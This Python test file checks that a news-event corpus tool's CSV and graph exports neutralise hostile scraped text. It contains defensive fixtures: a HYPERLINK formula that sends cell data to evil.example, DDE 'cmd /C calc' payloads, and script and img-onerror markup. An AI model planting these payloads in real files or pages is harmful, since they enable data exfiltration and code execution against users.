"""Scraped text in every export stays data: no spreadsheet formula, no markup, whatever the page said."""

from __future__ import annotations

import csv
import json

from lxml import etree

from marsad.document import MentionType
from marsad.export import export
from marsad.store.repository import CorpusWriter

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
MARKUP = '<script>alert("x")</script><img src=x onerror=alert(1)>'
TEXT = ("عادت المناوشات بين ميليشيات روسيا وميليشيات إيران في مدينة حلب مساء الأربعاء، وقالت مصادر محلية إن "
        "الاشتباكات استخدمت فيها الأسلحة الخفيفة قرب مطار حلب الدولي.")


def hostile_corpus(sessions, make_article) -> None:
    raw, doc = make_article(
        TEXT, outlet=FORMULA, published="2019-07-04", title=MARKUP,
        mentions=[("ميليشيات روسيا", "actor:russia-backed-militias", MentionType.ARMED_GROUP),
                  ("ميليشيات إيران", "actor:iran-backed-militias", MentionType.ARMED_GROUP)],
        events=[{"trigger": "المناوشات", "plover": "FIGHT", "acled_event_type": "Battles",
                 "acled_sub_event_type": "Armed clash", "actor1": ["actor:russia-backed-militias"],
                 "actor2": ["actor:iran-backed-militias"], "place": "place:aleppo", "date": "2019-07-03",
                 "summary_en": "@SUM(1+1)*cmd|' /C calc'!A0"}])
    # Copies: the fixture's actor records are shared by every test.
    doc.actors = [a.model_copy(update={"name_en": MARKUP, "name_ar": "-2+3+cmd|' /C calc'!A0"})
                  if a.id == "actor:russia-backed-militias" else a for a in doc.actors]
    with sessions() as session:
        CorpusWriter(session).add(raw, doc)
        session.commit()


def test_csv_cells_never_start_a_formula(sessions, make_article, tmp_path):
    hostile_corpus(sessions, make_article)
    out = tmp_path / "events.csv"
    with sessions() as session:
        assert export(session, "acled", out) == 1
    (row,) = csv.DictReader(out.open(encoding="utf-8"))
    assert row["source"] == "'" + FORMULA
    assert row["notes"].startswith("'@SUM")
    assert row["actor1"] == MARKUP  # not a formula: kept as written
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@")), value
    assert row["latitude"] and float(row["latitude"]) > 0  # numbers are left alone


def test_graph_and_geojson_exports_escape_markup(sessions, make_article, tmp_path):
    hostile_corpus(sessions, make_article)
    with sessions() as session:
        for fmt in ("gexf", "graphml", "geojson", "jsonl"):
            export(session, fmt, tmp_path / f"out.{fmt}")
    for fmt in ("gexf", "graphml"):
        tree = etree.parse(str(tmp_path / f"out.{fmt}"), etree.XMLParser(resolve_entities=False, no_network=True))
        assert not tree.xpath("//*[local-name()='script' or local-name()='img']"), fmt
        assert MARKUP in etree.tostring(tree, encoding="unicode", method="xml").replace("&lt;", "<").replace(
            "&gt;", ">").replace("&quot;", '"')
    features = json.loads((tmp_path / "out.geojson").read_text(encoding="utf-8"))["features"]
    assert features[0]["properties"]["outlets"] == [FORMULA]
